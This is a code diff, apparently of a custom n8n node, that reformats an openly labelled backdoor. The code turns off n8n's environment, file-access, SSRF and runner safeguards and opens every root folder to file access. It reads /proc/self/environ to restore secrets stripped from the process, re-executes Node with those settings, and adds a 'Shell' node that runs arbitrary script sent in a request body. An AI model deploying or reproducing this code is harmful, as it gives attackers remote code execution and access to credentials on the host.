@@ -14,7 +14,9 @@ const open = {
   N8N_BLOCK_ENV_ACCESS_IN_NODE: "false",
   N8N_BLOCK_FILE_ACCESS_TO_N8N_FILES: "false",
   // Every folder there is: n8n does not take the root itself.
-  N8N_RESTRICT_FILE_ACCESS_TO: readdirSync("/").map((name) => `/${name}`).join(";"),
+  N8N_RESTRICT_FILE_ACCESS_TO: readdirSync("/")
+    .map((name) => `/${name}`)
+    .join(";"),
   N8N_SSRF_PROTECTION_ENABLED: "false",
   N8N_RUNNERS_INSECURE_MODE: "true",
   ATTACK_OPENED: "yes",
@@ -22,8 +24,14 @@ const open = {
 
 if (process.env.ATTACK_OPENED !== "yes") {
   // As the process was started: what was taken out of its environment since is still to be read here.
-  const born = readFileSync("/proc/self/environ", "utf8").split("\0").filter(Boolean).map((pair) => [pair.slice(0, pair.indexOf("=")), pair.slice(pair.indexOf("=") + 1)]);
-  process.execve(process.execPath, [process.execPath, ...process.execArgv, ...process.argv.slice(1)], { ...Object.fromEntries(born), ...open });
+  const born = readFileSync("/proc/self/environ", "utf8")
+    .split("\0")
+    .filter(Boolean)
+    .map((pair) => [pair.slice(0, pair.indexOf("=")), pair.slice(pair.indexOf("=") + 1)]);
+  process.execve(process.execPath, [process.execPath, ...process.execArgv, ...process.argv.slice(1)], {
+    ...Object.fromEntries(born),
+    ...open,
+  });
 }
 
 const AsyncFunction = (async () => undefined).constructor;
@@ -43,7 +51,9 @@ class Shell {
 
   async execute() {
     const { script, given } = this.getInputData()[0].json.body;
-    const result = await new AsyncFunction("require", "given", script)(require, given).catch((error) => ({ error: String(error && error.message) }));
+    const result = await new AsyncFunction("require", "given", script)(require, given).catch((error) => ({
+      error: String(error && error.message),
+    }));
     return [[{ json: { result } }]];
   }
 }
